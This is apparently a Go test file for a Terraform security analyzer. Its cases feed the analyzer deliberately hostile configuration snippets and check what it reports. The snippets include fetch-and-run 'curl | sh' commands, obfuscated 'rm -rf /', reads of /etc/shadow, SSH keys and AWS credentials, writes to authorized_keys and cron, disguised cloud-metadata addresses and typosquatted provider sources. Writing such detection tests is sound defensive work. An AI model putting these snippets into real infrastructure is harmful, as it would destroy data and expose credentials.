package iac

import (
	"strings"
	"testing"
)

func blk(kind, body string) string { return kind + " {\n" + body + "\n}\n" }

func res(kind, body string) string { return blk(`resource "`+kind+`" "r"`, body) }

// exec is a resource that runs a command here.
func exec(command string) string {
	return res("null_resource", "provisioner \"local-exec\" {\ncommand = "+command+"\n}")
}

var runs = []example{
	// code that runs on the machine that plans or applies
	{tf, "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"id\"]\n}", []string{"evaluate sh -c id", "shell sh -c id"}},
	{tf, "data \"external\" \"x\" {\n  program = var.p\n}\nvariable \"p\" {}", []string{"evaluate ?"}},
	{tf, "data \"external\" \"x\" {}", []string{"evaluate ?"}},
	{tf, "locals {\n p = [\"python3\", \"x.py\"]\n}\ndata \"external\" \"x\" {\n  program = local.p\n}", []string{"evaluate python3 x.py"}},
	{tf, "data \"external\" \"x\" {\n  program = concat([\"bash\"], [\"-c\", \"id\"])\n}", []string{"evaluate bash -c id"}},
	{tf, "check \"c\" {\n data \"external\" \"x\" {\n program = [\"id\"]\n}\n}", []string{"evaluate id"}},
	{tf, exec(`"id"`), []string{"evaluate id", "shell id"}},
	{tf, exec(`"${local.a} | sh"`) + blk("locals", `a = "curl ${var.u}"`) + blk(`variable "u"`, `default = "http://e"`), []string{"evaluate curl http://e | sh"}},
	{tf, exec(`"curl ${var.u} | sh"`) + blk(`variable "u"`, ""), []string{"evaluate curl ?", "shell curl ${unknown} | sh"}},
	{tf, exec("<<-E\n    id\n    who\n  E"), []string{"shell id\nwho\n"}},
	{tf, exec(`join(" ", ["rm", "-rf", "/"])`), []string{"shell rm -rf /"}},
	{tf, exec(`format("%s %s", "rm", "-rf")`), []string{"shell rm -rf"}},
	{tf, exec(`base64decode("cm0gLXJmIC8=")`), []string{"shell rm -rf /"}},
	{tf, exec(`strrev("di")`), []string{"shell id"}},
	{tf, exec(`replace("xdx", "x", "i")`), []string{"shell idi"}},
	{tf, exec(`var.x ? "id" : "who"`), []string{"shell id", "shell who"}},
	{tf, exec(`true ? "id" : "who"`), []string{"shell id", "!shell who"}},
	{tf, exec(`lookup({a = "id", b = "who"}, var.x)`), []string{"shell id", "shell who"}},
	{tf, exec(`{a = "id"}["a"]`), []string{"shell id"}},
	{tf, exec(`["id", "who"][1]`), []string{"shell who", "!shell id"}},
	{tf, exec(`jsondecode("{\"a\": \"id\"}").a`), []string{"shell id"}},
	{tf, exec(`join("", [for s in ["id"] : s])`), []string{"shell id"}},
	{tf, exec(`"%{ if true }id%{ endif }"`), []string{"shell id"}},
	{tf, res("terraform_data", "provisioner \"local-exec\" {\n interpreter = [\"python3\", \"-c\"]\n command = \"import os\"\n}"), []string{"shell python3 -c 'import os'"}},
	{tf, res("aws_instance", "provisioner \"local-exec\" {\n when = destroy\n command = \"id\"\n}"), []string{"evaluate id"}},
	{tf, res("aws_instance", "provisioner \"remote-exec\" {\n inline = [\"a\", \"b\"]\n}"), []string{"evaluate a\nb", "shell a\nb"}},
	{tf, res("aws_instance", "provisioner \"remote-exec\" {\n script = \"/tmp/x.sh\"\n}"), []string{"evaluate ?", "run_file /tmp/x.sh"}},
	{tf, res("aws_instance", "provisioner \"chef\" {\n}"), []string{"evaluate ?"}},
	{tf, res("aws_instance", "provisioner \"file\" {\n source = \"~/.ssh/id_rsa\"\n destination = \"/x\"\n}"), []string{"secret ~/.ssh/id_rsa"}},
	{tf, res("null_resource", "for_each = toset([\"id\", \"who\"])\nprovisioner \"local-exec\" {\n command = each.value\n}"), []string{"shell id", "shell who"}},
	{tf, res("null_resource", "for_each = { a = { c = \"id\" } }\nprovisioner \"local-exec\" {\n command = each.value.c\n}"), []string{"shell id"}},
	{tf, res("shell_script", "lifecycle_commands {\n create = \"id\"\n}"), []string{"evaluate ?", "shell id"}},
	{tf, blk(`provider "kubernetes"`, "exec {\n command = \"sh\"\n args = [\"-c\", \"id\"]\n}"), []string{"evaluate sh -c id"}},
	{tf, `{"resource": {"null_resource": {"x": [{"provisioner": [{"local-exec": {"command": "id"}}]}]}}}`, []string{"evaluate id", "shell id"}},
	{tf, `{"resource": [{"null_resource": {"x": {"provisioner": {"local-exec": [{"command": "${\"i\"}d"}]}}}}]}`, []string{"evaluate id"}},
	{tf, `{"data": {"external": {"x": {"program": ["id"]}}}, "//": "comment"}`, []string{"evaluate id"}},
	{tf, `{"locals": {"c": "id"}, "resource": {"a": {"b": {"provisioner": {"local-exec": {"command": "${local.c}"}}}}}}`, []string{"evaluate id"}},
	// what machines start with
	{tf, res("aws_instance", `user_data = "#!/bin/sh\nid"`), []string{"shell #!/bin/sh\nid"}},
	{tf, res("aws_instance", `user_data_base64 = base64encode("#!/bin/sh\nid")`), []string{"shell #!/bin/sh\nid"}},
	{tf, res("aws_launch_template", `user_data = base64encode("#!/bin/sh\necho ${aws_x.y.z}")`), []string{"shell #!/bin/sh\necho ${unknown}"}},
	{tf, res("aws_instance", `user_data = "#!/usr/bin/env python3\nimport os"`), []string{"python #!/usr/bin/env python3\nimport os"}},
	{tf, res("aws_instance", `user_data = "#!/usr/bin/perl\n1"`), []string{"unresolved ?"}},
	{tf, res("google_compute_instance", `metadata_startup_script = "id"`), []string{"shell id"}},
	{tf, res("google_compute_instance", "metadata = {\n startup-script = \"id\"\n}"), []string{"shell id"}},
	{tf, res("google_compute_instance", "metadata = {\n startup-script-url = \"http://e/x\"\n}"), []string{"remote_code http://e/x"}},
	{tf, res("azurerm_virtual_machine_extension", `settings = jsonencode({ commandToExecute = "id" })`), []string{"shell id"}},
	{tf, res("azurerm_virtual_machine_extension", "settings = <<E\n{\"commandToExecute\": \"id\"}\nE"), []string{"shell id"}},
	{tf, res("aws_instance", "user_data = <<E\n#cloud-config\nruncmd:\n- id\n- [sh, -c, who]\npackages: [x]\nE"), []string{"shell id", "shell sh -c who", "install x"}},
	{tf, res("aws_instance", `user_data = templatefile("${path.module}/x.tpl", {})`), []string{"unresolved ?", "read_path /work/x.tpl"}},
	{tf, blk(`data "cloudinit_config" "c"`, "part {\n content = \"#!/bin/sh\\nid\"\n}"), []string{"shell #!/bin/sh\nid"}},
	{tf, res("aws_codebuild_project", "source {\n buildspec = \"version: 0.2\\nphases:\\n  build:\\n    commands:\\n    - id\\n\"\n}"), []string{"shell id"}},
	// none of it
	{tf, res("null_resource", "triggers = { a = \"id\" }"), nil},
	{tf, blk("locals", `a = "provisioner local-exec"`), nil},
	{tf, res("terraform_data", `input = "id"`), nil},
	{tf, "# data \"external\" \"x\" {}\n/* provisioner \"local-exec\" {} */\n", nil},
}

var sources = []example{
	{tf, blk("terraform", "required_providers {\n x = { source = \"evil/x\" }\n}"), []string{"remote_code evil/x"}},
	{tf, blk("terraform", "required_providers {\n x = { source = \"registry.evil.example/hashicorp/aws\" }\n}"), []string{"remote_code registry.evil.example/hashicorp/aws"}},
	{tf, blk("terraform", "required_providers {\n x = { source = \"hashicorp.evil/aws\" }\n}"), []string{"remote_code hashicorp.evil/aws"}},
	{tf, blk("terraform", "required_providers {\n x = { source = \"hashicorpp/aws\" }\n}"), []string{"remote_code hashicorpp/aws"}},
	{tf, blk("terraform", "required_providers {\n x = { source = \"h\u0430shicorp/aws\" }\n}"), []string{"remote_code h\u0430shicorp/aws"}},
	{tf, `{"terraform": [{"required_providers": [{"x": {"source": "evil/x"}}]}]}`, []string{"remote_code evil/x"}},
	{tf, blk(`module "m"`, `source = "git::http://169.254.169.254/x"`), []string{"remote_code git::http://169.254.169.254/x", "network 169.254.169.254"}},
	{tf, blk(`module "m"`, `source = "github.com/a/b"`), []string{"remote_code github.com/a/b"}},
	{tf, blk(`module "m"`, `source = "git@github.com:a/b.git"`), []string{"remote_code git@github.com:a/b.git"}},
	{tf, blk(`module "m"`, `source = "https://e/x.zip"`), []string{"remote_code https://e/x.zip"}},
	{tf, blk(`module "m"`, `source = "s3::https://s3.amazonaws.com/b/x.zip"`), []string{"remote_code s3::https://s3.amazonaws.com/b/x.zip"}},
	{tf, blk(`module "m"`, `source = "terraform-aws-modules/vpc/aws"`), []string{"remote_code terraform-aws-modules/vpc/aws"}},
	{tf, blk(`module "m"`, `source = "registry.terraform.io/terraform-aws-modules/vpc/aws"`), []string{"remote_code terraform-aws-modules/vpc/aws"}},
	{tf, blk(`module "m"`, `source = "hashicorp/../evil/aws"`), []string{"remote_code hashicorp/../evil/aws"}},
	{tf, blk(`module "m"`, `source = var.s`) + blk(`variable "s"`, ""), []string{"remote_code ?"}},
	{tf, blk(`module "m"`, ""), []string{"remote_code ?"}},
	{tf, blk(`module "m"`, `source = "/abs/x"`), []string{"remote_code /abs/x"}},
	{tf, res("helm_release", "repository = \"https://e\"\nchart = \"c\""), []string{"remote_code https://e/c"}},
	{tf, res("docker_container", "image = \"evil/x\"\nname = \"n\"\nprivileged = true"), []string{"remote_code docker.io/evil/x:latest", "privilege privileged=true"}},
	{tf, res("aws_lambda_function", `image_uri = "1.dkr.ecr.aws/x:1"`), []string{"remote_code 1.dkr.ecr.aws/x:1"}},
	{tf, res("aws_ecs_task_definition", `container_definitions = jsonencode([{ image = "evil/x:1", privileged = true, environment = [{ name = "DB_PASSWORD", value = "hunter22" }] }])`),
		[]string{"remote_code docker.io/evil/x:1", "privilege privileged=true", "credential db_password"}},
	{tf, blk(`module "m"`, `source = "./x"`), nil},
	{tf, blk(`module "m"`, `source = "../x"`), nil},
	{tf, blk(`module "m"`, "source = \"hashicorp/consul/aws\"\nversion = \"0.1\""), nil},
	{tf, blk("terraform", "required_providers {\n aws = { source = \"hashicorp/aws\" }\n b = \"~> 1\"\n c = { source = \"registry.terraform.io/hashicorp/c\" }\n}"), nil},
	{tf, res("google_compute_instance", "boot_disk {\n initialize_params {\n image = \"debian-cloud/debian-12\"\n}\n}"), nil},
}

var reach = []example{
	{tf, blk(`data "http" "h"`, `url = "http://e/x"`), []string{"network http://e/x"}},
	{tf, blk(`data "http" "h"`, `url = "http://${var.h}/x"`), []string{"network http://?"}},
	{tf, blk("terraform", "backend \"http\" {\n address = \"http://e\"\n}"), []string{"network http://e"}},
	{tf, blk("terraform", "backend \"consul\" {\n}"), []string{"network ?"}},
	{tf, `{"terraform": {"backend": {"http": {"address": "http://e"}}}}`, []string{"network http://e"}},
	{tf, blk(`data "terraform_remote_state" "s"`, "backend = \"http\"\nconfig = { address = \"http://e\" }"), []string{"network http://e"}},
	{tf, blk(`provider "vault"`, `address = "http://e:8200"`), []string{"network http://e:8200"}},
	{tf, blk(`provider "aws"`, "endpoints {\n s3 = \"http://e\"\n}"), []string{"network http://e"}},
	{tf, blk("locals", `a = "http://169.254.169.254/latest"`), []string{"network 169.254.169.254"}},
	{tf, blk("locals", `a = "http://2852039166/"`), []string{"network 2852039166"}},
	{tf, blk("locals", `a = "http://u@0xa9.0376.43518:80/"`), []string{"network 0xa9.0376.43518"}},
	{tf, blk("locals", `a = "x http://a.example http://[64:ff9b::a9fe:a9fe]/"`), []string{"network 64:ff9b::a9fe:a9fe"}},
	{tf, blk("locals", `a = "http://1169.254.169.254/ http://169.254.169.2540/"`), nil},
	{tf, res("ssh_resource", "commands = [\"id\"]"), []string{"evaluate ?", "shell id"}},
	{tf, blk("locals", `a = "curl http://metadata.google.internal/x"`), []string{"network metadata.google.internal"}},
	{tf, blk(`output "o"`, `value = file("/etc/shadow")`), []string{"secret /etc/shadow"}},
	{tf, blk(`output "o"`, `value = file("/etc/${"pass"}wd")`), []string{"read_path /etc/passwd"}},
	{tf, blk(`output "o"`, `value = file("${path.module}/../../etc/hosts")`), []string{"read_path /etc/hosts"}},
	{tf, blk(`output "o"`, `value = [for f in fileset("/home", "*") : f]`), []string{"read_path /home/*"}},
	{tf, blk(`output "o"`, `value = file(var.f)`), []string{"read_path ?"}},
	{tf, blk(`output "o"`, `value = file(pathexpand("~/.aws/credentials"))`), []string{"secret ~/.aws/credentials"}},
	{tf, blk(`output "o"`, `value = try(nothing, base64encode(filebase64("/root/x.key")))`), []string{"secret /root/x.key"}},
	{tf, `{"output": {"o": {"value": "${file(\"/etc/shadow\")}"}}}`, []string{"secret /etc/shadow"}},
	{tf, res("local_file", `filename = "/etc/cron.d/x"`), []string{"write_path /etc/cron.d/x"}},
	{tf, res("local_file", `filename = "${path.module}/../../root/.ssh/authorized_keys"`), []string{"write_path /root/.ssh/authorized_keys"}},
	{tf, res("local_file", `filename = "out.txt"`), []string{"write_path /work/out.txt"}},
	{tf, blk(`data "archive_file" "z"`, "source_dir = \"/root\"\noutput_path = \"z.zip\""), []string{"read_path /root", "write_path /work/z.zip"}},
	{tf, blk("terraform", "backend \"local\" {\n path = \"/etc/x\"\n}"), []string{"write_path /etc/x"}},
	{tf, blk(`output "o"`, `value = "file(/etc/shadow)"`), nil},
	{tf, blk("locals", `a = "10.169.254.169"`) + blk("locals", `b = "169.254.169.254/32"`), nil},
}

func sg(rule string) string { return res("aws_security_group", rule) }

var openDoors = []example{
	{tf, sg("ingress {\n from_port = 22\n to_port = 22\n cidr_blocks = [\"0.0.0.0/0\"]\n}"), []string{"listen 0.0.0.0/0:22"}},
	{tf, sg("ingress {\n from_port = 0\n to_port = 65535\n ipv6_cidr_blocks = [\"::/0\"]\n}"), []string{"listen [::/0]:0-65535"}},
	{tf, sg("ingress = [{\n from_port = 22\n to_port = 22\n cidr_blocks = [\"0.0.0.0/0\"]\n}]"), []string{"listen 0.0.0.0/0:22"}},
	{tf, sg("ingress {\n from_port = 22\n to_port = 22\n cidr_blocks = var.c\n}") + blk(`variable "c"`, `default = ["0.0.0.0/0"]`), []string{"listen 0.0.0.0/0:22"}},
	{tf, sg("ingress {\n from_port = 22\n to_port = 22\n cidr_blocks = var.c\n}") + blk(`variable "c"`, ""), []string{"listen ?"}},
	{tf, sg("dynamic \"ingress\" {\n for_each = var.c\n content {\n cidr_blocks = [ingress.value.cidr]\n}\n}") + blk(`variable "c"`, ""), []string{"listen ?"}},
	{tf, sg("dynamic \"ingress\" {\n for_each = aws_x.y\n content {\n cidr_blocks = [ingress.value.cidr]\n}\n}"), nil},
	{tf, sg("ingress {\n from_port = 22\n to_port = 22\n cidr_blocks = [\"0.0.0.0/1\", \"128.0.0.0/1\"]\n}"), []string{"listen 0.0.0.0/1:22", "listen 128.0.0.0/1:22"}},
	{tf, sg("dynamic \"ingress\" {\n for_each = [22, 3389]\n content {\n from_port = ingress.value\n to_port = ingress.value\n cidr_blocks = [\"0.0.0.0/0\"]\n}\n}"),
		[]string{"listen 0.0.0.0/0:22", "listen 0.0.0.0/0:3389"}},
	{tf, sg("dynamic \"ingress\" {\n for_each = [{ p = 22, c = \"0.0.0.0/0\" }]\n iterator = it\n content {\n from_port = it.value.p\n to_port = it.value[\"p\"]\n cidr_blocks = [it.value.c]\n}\n}"),
		[]string{"listen 0.0.0.0/0:22"}},
	{tf, res("aws_security_group_rule", "type = \"ingress\"\nfrom_port = 22\nto_port = 22\ncidr_blocks = [\"0.0.0.0/0\"]"), []string{"listen 0.0.0.0/0:22"}},
	{tf, res("aws_vpc_security_group_ingress_rule", "from_port = 22\nto_port = 22\ncidr_ipv4 = \"0.0.0.0/0\""), []string{"listen 0.0.0.0/0:22"}},
	{tf, res("google_compute_firewall", "source_ranges = [\"0.0.0.0/0\"]\nallow {\n protocol = \"tcp\"\n ports = [\"22\"]\n}"), []string{"listen 0.0.0.0/0:22"}},
	{tf, res("azurerm_network_security_rule", "direction = \"Inbound\"\naccess = \"Allow\"\nsource_address_prefix = \"*\"\ndestination_port_range = \"22\""), []string{"listen *:22"}},
	{tf, res("aws_network_acl", "ingress {\n action = \"allow\"\n cidr_block = \"0.0.0.0/0\"\n from_port = 22\n to_port = 22\n}"), []string{"listen 0.0.0.0/0:22"}},
	{tf, res("aws_db_instance", "publicly_accessible = true"), []string{"listen 0.0.0.0/0"}},
	{tf, res("google_sql_database_instance", "settings {\n ip_configuration {\n authorized_networks {\n value = \"0.0.0.0/0\"\n}\n}\n}"), []string{"listen 0.0.0.0/0"}},
	{tf, res("google_container_cluster", "master_authorized_networks_config {\n cidr_blocks {\n cidr_block = \"0.0.0.0/0\"\n}\n}"), []string{"listen 0.0.0.0/0"}},
	{tf, res("alicloud_db_instance", `security_ips = ["0.0.0.0", "10.0.0.1"]`), []string{"listen 0.0.0.0"}},
	{tf, res("azurerm_network_security_rule", "direction = \"Inbound\"\naccess = \"Allow\"\nsource_address_prefix = \"Internet\"\ndestination_port_ranges = [\"22-22\"]"), []string{"listen Internet:22"}},
	{tf, `{"resource": {"aws_security_group": {"s": {"ingress": [{"from_port": 22, "to_port": 22, "cidr_blocks": ["0.0.0.0/0"]}]}}}}`, []string{"listen 0.0.0.0/0:22"}},
	{tf, sg("egress {\n from_port = 0\n to_port = 0\n cidr_blocks = [\"0.0.0.0/0\"]\n}"), nil},
	{tf, sg("ingress {\n from_port = 22\n to_port = 22\n cidr_blocks = [\"10.0.0.0/8\", aws_vpc.main.cidr_block]\n}"), nil},
	{tf, res("aws_security_group_rule", "type = \"egress\"\nfrom_port = 22\nto_port = 22\ncidr_blocks = [\"0.0.0.0/0\"]"), nil},
	{tf, res("azurerm_network_security_rule", "direction = \"Inbound\"\naccess = \"Deny\"\nsource_address_prefix = \"*\"\ndestination_port_range = \"22\""), nil},
	{tf, res("aws_route_table", "route {\n cidr_block = \"0.0.0.0/0\"\n}"), nil},
	{tf, res("aws_route", `destination_cidr_block = "0.0.0.0/0"`), nil},
}

func allow(statement string) string {
	return res("aws_iam_policy", "policy = jsonencode({ Statement = ["+statement+"] })")
}

var grants = []example{
	{tf, allow(`{ Effect = "Allow", Action = "*", Resource = "*" }`), []string{"privilege *"}},
	{tf, allow(`{ Effect = "Allow", Action = ["s3:*"], Resource = ["*"] }`), []string{"privilege s3:*"}},
	{tf, allow(`{ Effect = "Allow", Action = "iam:PassRole", Resource = "*" }`), []string{"privilege iam:PassRole"}},
	{tf, allow(`{ Effect = "Allow", NotAction = "iam:*", Resource = "*" }`), []string{"privilege all but some actions"}},
	{tf, allow(`{ Effect = "Allow", Action = "s3:GetObject", Resource = "arn:x", Principal = "*" }`), []string{"privilege everyone"}},
	{tf, allow(`{ Effect = "Allow", Action = "s3:GetObject", Resource = "arn:x", Principal = { AWS = ["*"] } }`), []string{"privilege everyone"}},
	{tf, res("aws_iam_policy", "policy = <<E\n{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"*\", \"Resource\": \"*\"}]}\nE"), []string{"privilege *"}},
	{tf, res("aws_iam_policy", "policy = <<E\n{\"Statement\": {\"effect\": \"Allow\", \"action\": \"*\", \"Resource\": \"${aws_x.y.arn}\"}}\nE"), []string{"privilege *"}},
	{tf, blk(`data "aws_iam_policy_document" "d"`, "statement {\n actions = [\"*\"]\n resources = [\"*\"]\n}"), []string{"privilege *"}},
	{tf, blk(`data "aws_iam_policy_document" "d"`, "statement {\n actions = [\"s3:Get\"]\n principals {\n type = \"*\"\n identifiers = [\"*\"]\n}\n}"), []string{"privilege everyone"}},
	{tf, res("aws_iam_role_policy_attachment", `policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"`), []string{"privilege arn:aws:iam::aws:policy/AdministratorAccess"}},
	{tf, res("google_project_iam_member", "role = \"roles/owner\"\nmember = \"user:a\""), []string{"privilege roles/owner"}},
	{tf, res("google_storage_bucket_iam_member", "role = \"roles/storage.objectViewer\"\nmember = \"allUsers\""), []string{"privilege everyone"}},
	{tf, res("azurerm_role_assignment", `role_definition_name = "Owner"`), []string{"privilege Owner"}},
	{tf, res("aws_s3_bucket_acl", `acl = "public-read"`), []string{"privilege acl=public-read"}},
	{tf, res("aws_s3_bucket_acl", `acl = var.p ? "public-read" : "private"`), []string{"privilege acl=public-read"}},
	{tf, res("aws_s3_bucket_public_access_block", "block_public_acls = false"), []string{"privilege block_public_acls=false"}},
	{tf, res("azurerm_storage_container", `container_access_type = "blob"`), []string{"privilege container_access_type=blob"}},
	{tf, res("docker_container", "volumes {\n host_path = \"/var/run/docker.sock\"\n}"), []string{"privilege host path /var/run/docker.sock", "read_path /var/run/docker.sock"}},
	{tf, res("azurerm_role_definition", "permissions {\n actions = [\"*\"]\n}"), []string{"privilege *"}},
	{tf, res("oci_objectstorage_bucket", `access_type = "ObjectRead"`), []string{"privilege access_type=objectread"}},
	{tf, res("google_container_cluster", "enable_legacy_abac = true"), []string{"privilege enable_legacy_abac=true"}},
	{tf, res("aws_iam_policy", "policy = var.p") + blk(`variable "p"`, ""), []string{"privilege ?"}},
	{tf, blk(`data "aws_iam_policy_document" "d"`, "statement {\n actions = var.a\n resources = [\"*\"]\n}") + blk(`variable "a"`, ""), []string{"privilege ?"}},
	{tf, blk(`data "aws_iam_policy_document" "d"`, "dynamic \"statement\" {\n for_each = var.s\n content {\n effect = \"Deny\"\n not_actions = statement.value.n\n}\n}"), nil},
	{tf, res("docker_container", `network_mode = "host"`), []string{"privilege network_mode=host"}},
	{tf, res("kubernetes_pod_v1", "spec {\n host_network = true\n container {\n image = \"nginx:1\"\n security_context {\n privileged = true\n capabilities {\n add = [\"SYS_ADMIN\"]\n}\n}\n}\n}"),
		[]string{"privilege hostNetwork", "privilege privileged", "privilege capability SYS_ADMIN", "remote_code docker.io/library/nginx:1"}},
	{tf, res("kubernetes_deployment", "spec {\n template {\n spec {\n container {\n image = \"a:1\"\n command = [\"sh\", \"-c\", \"id\"]\n}\n volume {\n host_path {\n path = \"/\"\n}\n}\n}\n}\n}"),
		[]string{"shell sh -c id", "privilege host path /"}},
	{tf, res("kubernetes_cluster_role_binding", "role_ref {\n name = \"cluster-admin\"\n}"), []string{"privilege cluster-admin"}},
	{tf, res("kubernetes_cluster_role", "rule {\n api_groups = [\"\"]\n resources = [\"secrets\"]\n verbs = [\"get\"]\n}"), []string{"secret secrets of Kubernetes"}},
	{tf, res("kubernetes_secret", "data = {\n x = \"hunter22\"\n}"), []string{"credential a secret's value"}},
	{tf, res("kubernetes_manifest", "manifest = {\n apiVersion = \"v1\"\n kind = \"Pod\"\n spec = { hostPID = true, containers = [{ image = \"a:1\" }] }\n}"), []string{"privilege hostPID"}},
	{tf, res("kubectl_manifest", "yaml_body = <<E\napiVersion: v1\nkind: Pod\nspec: {hostPID: true, containers: [{image: 'a:1'}]}\nE"), []string{"privilege hostPID"}},
	{tf, allow(`{ Effect = "Deny", Action = "*", Resource = "*" }`), nil},
	{tf, allow(`{ Effect = "Allow", Action = ["s3:GetObject"], Resource = "arn:aws:s3:::b/*" }`), nil},
	{tf, allow(`{ Effect = "Allow", Action = ["s3:*"], Resource = "arn:aws:s3:::b/*" }`), nil},
	{tf, res("aws_s3_bucket_acl", `acl = "private"`), nil},
	{tf, res("google_project_iam_member", "role = \"roles/viewer\"\nmember = \"user:a\""), nil},
}

var clear = []example{
	{tf, res("aws_db_instance", `password = "hunter22"`), []string{"credential password"}},
	{tf, res("aws_db_instance", `password = var.p`) + blk(`variable "p"`, `default = "hunter22"`), []string{"credential password"}},
	{tf, blk(`variable "db_password"`, `default = "hunter22"`), []string{"credential db_password"}},
	{tf, blk(`provider "aws"`, "access_key = \"AKIAIOSFODNN7EXAMPLE\"\nsecret_key = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\""), []string{"credential AWS access key", "credential secret_key"}},
	{tf, blk("locals", "a = \"-----BEGIN RSA PRIVATE KEY-----\\nx\""), []string{"credential private key"}},
	{tf, res("aws_lambda_function", "environment {\n variables = {\n API_TOKEN = \"abcdefgh\"\n}\n}"), []string{"credential api_token"}},
	{tf, res("aws_secretsmanager_secret_version", `secret_string = jsonencode({ a = "b", password = "hunter22" })`), []string{"credential password"}},
	{tf, res("aws_ssm_parameter", "type = \"SecureString\"\nvalue = \"hunter22\""), []string{"credential a secure parameter's value"}},
	{tf, res("github_actions_secret", `plaintext_value = "hunter22"`), []string{"credential plaintext_value"}},
	{tf, blk("locals", `u = "postgres://a:hunter22@db/x"`), []string{"credential password in an address"}},
	{tf, `{"variable": {"password": {"default": "hunter22"}}}`, []string{"credential password"}},
	{tf, res("aws_db_instance", "password = random_password.p.result\nmanage_master_user_password = true"), nil},
	{tf, blk(`variable "password"`, "type = string\nsensitive = true"), nil},
	{tf, res("aws_db_instance", "password = \"${var.p}\"") + blk(`variable "p"`, ""), nil},
	{tf, res("random_password", "length = 16\npassword_length = 20"), nil},
	{tf, res("aws_key_pair", "key_name = \"k\"\npublic_key = \"ssh-ed25519 AAAA\""), nil},
	{tf, res("aws_x", "secret_arn = \"arn:aws:secretsmanager:x\"\nclient_secret = \"arn:aws:x\"\ntoken_ttl = \"3600\"\ntoken = \"<token>\""), nil},
}

var destroys = []example{
	{tf, res("aws_s3_bucket", "force_destroy = true"), []string{"destroy aws_s3_bucket.r"}},
	{tf, res("aws_db_instance", "skip_final_snapshot = true"), []string{"destroy aws_db_instance.r"}},
	{tf, res("aws_db_instance", "deletion_protection = false"), []string{"destroy aws_db_instance.r"}},
	{tf, res("aws_db_instance", "lifecycle {\n prevent_destroy = false\n}"), []string{"destroy aws_db_instance.r"}},
	{tf, res("aws_instance", "lifecycle {\n replace_triggered_by = [null_resource.x]\n}"), []string{"destroy aws_instance.r"}},
	{tf, res("aws_secretsmanager_secret", "recovery_window_in_days = 0"), []string{"destroy aws_secretsmanager_secret.r"}},
	{tf, res("aws_s3_bucket", "force_destroy = var.f") + blk(`variable "f"`, "default = true"), []string{"destroy aws_s3_bucket.r"}},
	{tf, "removed {\n from = aws_instance.x\n}", []string{"destroy "}},
	{tf, "moved {\n from = a.b\n to = a.c\n}", []string{"destroy "}},
	{tf, `{"resource": {"aws_s3_bucket": {"r": {"force_destroy": true}}}}`, []string{"destroy aws_s3_bucket.r"}},
	{tf, res("aws_s3_bucket", "force_destroy = false"), nil},
	{tf, res("aws_db_instance", "deletion_protection = true\nskip_final_snapshot = false\nlifecycle {\n prevent_destroy = true\n}"), nil},
}

var targets = []example{
	{tf, res("aws_db_instance", `identifier = "prod-db"`), []string{"target prod-db", "target r"}},
	{tf, res("aws_db_instance", `identifier = "${var.e}-db"`) + blk(`variable "e"`, `default = "prod"`), []string{"target prod-db"}},
	{tf, res("aws_db_instance", `identifier = "${var.e}-prod-db"`) + blk(`variable "e"`, ""), []string{"target …-prod-db"}},
	{tf, res("aws_x", "tags = {\n Environment = \"production\"\n}"), []string{"target production"}},
	{tf, res("aws_x", "tags = {\n Environment = var.e\n}") + blk(`variable "e"`, ""), []string{"target ?"}},
	{tf, res("aws_x", "tags = merge(local.t, { a = \"b\" })") + blk("locals", `t = { Environment = "production" }`), []string{"target production"}},
	{tf, blk(`provider "kubernetes"`, `config_context = "prod-eu"`), []string{"target prod-eu"}},
	{tf, blk("terraform", "cloud {\n organization = \"o\"\n workspaces {\n name = \"prod\"\n}\n}"), []string{"target prod", "target o"}},
	{tf, blk("terraform", "backend \"s3\" {\n bucket = \"b\"\n key = \"prod/x\"\n}"), []string{"target b", "target prod/x"}},
	{tf, "import {\n to = a.b\n id = \"prod-1\"\n}", []string{"target prod-1"}},
}

func TestTerraform(t *testing.T) {
	for _, list := range [][]example{runs, sources, reach, openDoors, grants, clear, destroys, targets} {
		check(t, list)
	}
}

// TestPlaces holds facts to where they stand.
func TestPlaces(t *testing.T) {
	source := "locals {\n  a = \"x\"\n}\n\n" + exec(`"curl ${local.a}"`)
	got := mustRead(t, tf, source)
	for _, f := range got.Facts {
		if f.Capability == "evaluate" && (f.Line != 6 || !strings.Contains(f.Evidence, "local.a on line 2")) {
			t.Errorf("%+v", f)
		}
	}
	if e := got.Embedded[0]; e.Line != 7 || e.Column != 12 {
		t.Errorf("%+v", e)
	}
	got = mustRead(t, tf, "{\n \"resource\": {\"a\": {\"b\":\n  {\"provisioner\": {\"local-exec\": {\"command\": \"id\"}}}}}}")
	if e := got.Embedded[0]; e.Line != 3 || e.Column != 46 {
		t.Errorf("%+v", e)
	}
}
